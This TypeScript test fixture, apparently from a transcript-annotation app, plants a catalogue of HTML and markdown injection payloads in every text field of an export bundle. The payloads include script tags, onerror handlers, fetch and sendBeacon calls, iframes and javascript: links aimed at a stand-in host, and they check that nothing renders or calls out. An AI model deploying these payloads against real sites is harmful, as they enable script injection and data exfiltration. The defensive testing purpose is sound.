import { Buffer } from 'node:buffer';
import { fixedDoc } from '../src/main/export/sample-bundle.testing';
import { writeBundle } from '../src/main/export/write-bundle';
import { importText } from '../src/main/import/import-text.testing';
import { unsettled } from '../src/shared/annotation/annotation';
import { startingThemes } from '../src/shared/annotation/theme';
import { annotationId, authorId, paragraphId, speakerId } from '../src/shared/id';
import { setAuthor } from '../src/shared/notebook/library-notebook';
import { takeOverThemes } from '../src/shared/notebook/library-themes';
import { addAnnotation, setDecision } from '../src/shared/notebook/transcript-notebook';

const host = 'leak.example';

/** What makes a page call out or run something, were it taken for a page: one of each kind that is known to have leaked. */
export const leaks: readonly string[] = [
  `<link rel=dns-prefetch href=//a.${host}>`,
  `<link rel=preconnect href=https://b.${host}>`,
  `<link rel=prefetch href=https://c.${host}/>`,
  `<link rel=stylesheet href=https://d.${host}/x.css>`,
  `<img src=https://e.${host}/x.png onerror="window.canary=1">`,
  `<div style="background:url(https://f.${host}/x.png)">words</div>`,
  `<style>@import url(https://g.${host}/x.css);</style>`,
  `<script>window.canary=1</script>`,
  `<script src=https://h.${host}/x.js></script>`,
  `<iframe src=https://i.${host}/ srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<form action=https://j.${host}/><button autofocus>Send</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://k.${host}/">`,
  `<script>new RTCPeerConnection({iceServers:[{urls:'stun:192.0.2.1:3478'}]}).createDataChannel('x')</script>`,
  `<script>new WebSocket('wss://l.${host}/'); new EventSource('https://m.${host}/')</script>`,
  `<script>navigator.sendBeacon('https://n.${host}/','x'); fetch('https://o.${host}/')</script>`,
  `<svg onload="window.canary=1"><image href="https://p.${host}/x.svg"/></svg>`,
  `<video src=https://q.${host}/x.mp4 poster=https://r.${host}/x.png><track src=https://s.${host}/x.vtt></video>`,
  `<a href=https://t.${host}/ ping=https://u.${host}/ id=canary>words</a>`,
  `<script>new Worker('data:,importScripts("https://v.${host}/")')</script>`,
  `<object data=https://w.${host}/></object><embed src=https://x.${host}/><base href=https://y.${host}/>`,
  `[words](javascript:window.canary=1) ![words](https://z.${host}/x.png) <https://za.${host}/>`,
  `javascript:window.canary=1//`,
];

/** Lines that a reader of plain text takes as they stand. */
export const leakText = `Leaks of every kind\n\n${leaks.map((leak) => `Jane Doe: Listen to ${leak} now.`).join('\n\n')}\n`;

/** A bundle with a leak wherever a bundle holds words. */
export async function leakyBundle(): Promise<Uint8Array> {
  const source = Buffer.from(leakText.replace('Leaks', 'Bundled leaks'));
  const read = importText(source, 'leaks.txt', { readAt: '2025-11-12T09:00:00.000Z' });
  if (!read.ok) throw new Error(read.problem.kind);
  const { transcriptId, lines, provenance } = read.value;
  const leak = (index: number) => leaks[index % leaks.length] ?? '';
  const author = { id: authorId('leak'), name: leak(4), initials: '<img>' };
  const notebookUpdate = fixedDoc((doc) => {
    setDecision(doc, 'title', `Bundled ${leak(4)}`);
    setDecision(doc, 'venue', leak(0));
    setDecision(doc, 'reference', leak(7));
    setDecision(doc, `speaker/name/${speakerId('jane doe')}`, leak(15));
    leaks.forEach((note, index) => {
      const paragraph = paragraphId(index + 2);
      addAnnotation(doc, {
        id: annotationId(`leak-${index}`),
        passage: { start: { paragraph, offset: 10 }, end: { paragraph, offset: 16 } },
        quote: { exact: ['Listen'], before: '', after: note.slice(0, 32) },
        themeId: startingThemes[index % 6]?.id ?? (`theme:${''}` as never),
        note,
        ...unsettled,
        authorId: author.id,
        madeAt: index,
        changedAt: index,
      });
    });
  });
  const libraryUpdate = fixedDoc((doc) => {
    setAuthor(doc, author);
    takeOverThemes(
      doc,
      startingThemes.map((theme) => ({ ...theme, description: leak(4), position: null, joinedInto: null })),
    );
  });
  const transcript = { transcriptId, source, lines, notebookUpdate };
  return writeBundle({
    transcripts: [{ ...transcript, provenance: { ...provenance, fileName: leak(4) } }],
    libraryUpdate,
    now: '2025-11-12T12:00:00.000Z',
    appVersion: leak(7),
  });
}
